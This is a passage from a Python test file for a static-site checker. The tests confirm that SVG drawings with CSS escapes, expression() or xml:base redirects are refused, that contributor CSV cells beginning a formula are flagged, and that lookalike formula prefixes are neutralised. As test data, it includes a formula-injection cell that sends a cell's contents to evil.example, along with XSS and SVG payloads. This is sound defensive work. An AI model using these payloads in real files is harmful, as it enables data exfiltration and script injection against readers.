        "stroke='expression(alert(1))'",
    ],
)
def test_a_drawing_may_not_hide_a_fetch_in_a_presentation_attribute(attribute):
    """SVG reads fill, mask, filter, cursor and the other presentation attributes as CSS, where
    an escape spells url( without the letters: opened on its own, the drawing would fetch it."""
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'><rect {attribute}/></svg>"
    found = svg_problems("blog/images/x.svg", drawing)
    assert [p.message for p in found] == [
        f"has a CSS escape, @-rule or expression in the {attribute.split('=')[0]} attribute of <rect>"
    ]
    label = "<svg xmlns='http://www.w3.org/2000/svg'><rect aria-label='Police &amp; health' fill='#0b0c0c'/></svg>"
    assert svg_problems("blog/images/x.svg", label) == []


def test_a_csv_beside_the_content_may_not_hold_a_formula(tmp_path):
    """The hub neutralises its own catalogue.csv; a contributor's CSV is published as it is,
    so a cell a spreadsheet would run is refused with its line and column (numbers are data)."""
    root = make_site(tmp_path / "repo")
    (root / "blog" / "images" / "figures.csv").write_text(
        'name,link\n=HYPERLINK("http://evil.example/?"&A1,"Details"),x\nTotal,-5\nPhone,+44 20 7946 0000\n'
        "Share, \u200b@SUM(1)\n",
        encoding="utf-8",
    )
    result = run([sys.executable, "-m", "ishub", "check"], cwd=root)
    assert result.code == 1
    lines = [line for line in result.out.splitlines() if line.startswith("blog/images/figures.csv")]
    assert lines == [
        "blog/images/figures.csv:2: file: column 1 holds '=HYPERLINK(\"http://evil.example/?\"&A1', "
        "which a spreadsheet would run as a formula; begin the cell with an apostrophe (') so that it "
        "is shown as text",
        "blog/images/figures.csv:5: file: column 2 holds ' \\u200b@SUM(1)', which a spreadsheet would run "
        "as a formula; begin the cell with an apostrophe (') so that it is shown as text",
    ]


@pytest.mark.parametrize("value", ["\ufe66SUM(1)", "\u2212A1+1", "\u200b=1+1", "\ufeff+A1", "\u00a0\uff1d1"])
def test_lookalike_formula_starts_get_an_apostrophe(value):
    assert inert_cell(value) == "'" + value
    assert inert_cell("Harrowfield \u2212 north") == "Harrowfield \u2212 north"


def test_a_drawing_may_not_move_its_references_with_xml_base():
    drawing = (
        "<svg xmlns='http://www.w3.org/2000/svg'><g xml:base='http://evil.example/base/'>"
        "<image href='x.png'/></g></svg>"
    )
    assert [p.message for p in svg_problems("blog/images/x.svg", drawing)] == [
        "sets xml:base on <g>, which would make its references point elsewhere"
    ]


def test_aliases_and_authors_are_bounded(tmp_path):
    """Each old address is a page and each author a page and two feeds in every build: an
    item keeps at most 20 aliases and the authors file holds at most 500 authors."""
    root = make_site(tmp_path / "repo")
    post = root / "blog" / "2014-03-01-first-post.md"
    text = post.read_text(encoding="utf-8")
    aliases = "themes: [culture]\naliases:\n" + "".join(f"  - blog/old-{n}/\n" for n in range(21))
    post.write_text(text.replace("themes: [culture]\n", aliases, 1), encoding="utf-8")
    result = run([sys.executable, "-m", "ishub", "check"], cwd=root)
    assert result.code == 1
    expected = "blog/2014-03-01-first-post.md:7: aliases: lists 21 old addresses; an item may keep at most 20"
    assert expected in result.out, result.out[-2000:]
    post.write_text(text, encoding="utf-8")
    authors = root / "blog" / "authors.yml"
    extra = "".join(f"  extra-{n}:\n    name: Extra Author {n}\n" for n in range(500))
    authors.write_text(authors.read_text(encoding="utf-8") + extra, encoding="utf-8")
    result = run([sys.executable, "-m", "ishub", "check"], cwd=root)
    assert result.code == 1
    assert (
        "blog/authors.yml:1: authors: lists 502 authors; the file may hold at most 500; "
        "remove the authors who have written nothing published on the hub"
    ) in result.out
